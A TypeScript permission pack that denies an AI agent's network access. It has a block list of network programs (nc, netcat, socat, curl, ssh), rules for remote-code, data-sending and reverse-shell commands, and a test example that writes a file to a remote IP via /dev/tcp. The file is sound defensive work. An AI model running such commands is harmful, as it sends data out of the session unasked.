import { examples, onToolCall, type Pack, runsAny } from "./pack.ts";

/** Programs that go to the network by themselves, whatever their arguments. */
const FETCHERS = [
  "git {fetch,pull,push,clone,ls-remote}",
  "git remote update",
  "git submodule update",
  "{npm,pnpm,yarn,bun} {install,i,ci,add,update,upgrade,publish,audit,outdated,view,info,login,search,dlx}",
  "{npx,bunx,pnpx,uvx}",
  "{pip,pip3,pipx} {install,download,search}",
  "uv {add,sync,pip}",
  "poetry {install,add,update}",
  "cargo {install,add,update,fetch,publish,search}",
  "go {get,install}",
  "go mod download",
  "{gem,bundle} {install,update,push}",
  "composer {install,update,require}",
  "{apt,apt-get,yum,dnf,apk,brew,snap} {update,upgrade,install,add}",
  "{docker,podman} {pull,push,login,search}",
  "gh {api,pr,issue,repo,release,run,gist,auth,workflow}",
  "{aws,gcloud,az,gsutil,kubectl,helm,terraform,heroku,fly,vercel,netlify,firebase,pulumi}",
  "{curl,wget,ssh,scp,sftp,ftp,tftp,telnet,nc,ncat,netcat,socat,rsync,dig,nslookup,host,ping,traceroute,whois,nmap,aria2c,http,https,xh}",
];

/** No connection to another machine. */
export const noNetwork: Pack = {
  name: "no-network",
  description: "Denies every call that connects to another machine; connections to this machine are allowed.",
  definitions: [
    onToolCall(
      "no-network-connections",
      "Shell commands and tools may reach this machine only.",
      [
        {
          when: 'call connects "{*.[a-z*]*,[02-9]*,1[!2]*,12[!7]*,[a-km-z]*,l[!o]*,lo[!c]*,[*]*}"',
          answer: "deny",
          reason: "This connects to another machine, and this session has no network access.",
        },
        {
          when: 'tool in ["WebFetch", "WebSearch"]',
          answer: "deny",
          reason: "This session has no network access.",
        },
        {
          when: `${runsAny(FETCHERS)} and not call connects "*"`,
          answer: "deny",
          reason: "This program uses the network, and this session has no network access.",
        },
        {
          when: 'command runs "@remote-code" or command runs "@sends" or command runs "@reverse-shell"',
          answer: "deny",
          reason: "This exchanges data with another machine.",
        },
      ],
      [
        ...examples(
          [
            "curl https://example.com",
            "git fetch",
            "npm install",
            "cat x > /dev/tcp/192.0.2.1/80",
            "ssh host uptime",
          ],
          [
            "curl http://localhost:3000/health",
            "curl -s 127.0.0.1:8080",
            "npm test",
            "git commit -m x",
            "ls",
          ],
        ),
        { match: { tool_name: "WebFetch", tool_input: { url: "https://example.com" } } },
        { not_match: { tool_name: "Read", tool_input: { file_path: "/project/a.ts" } } },
      ],
    ),
  ],
};
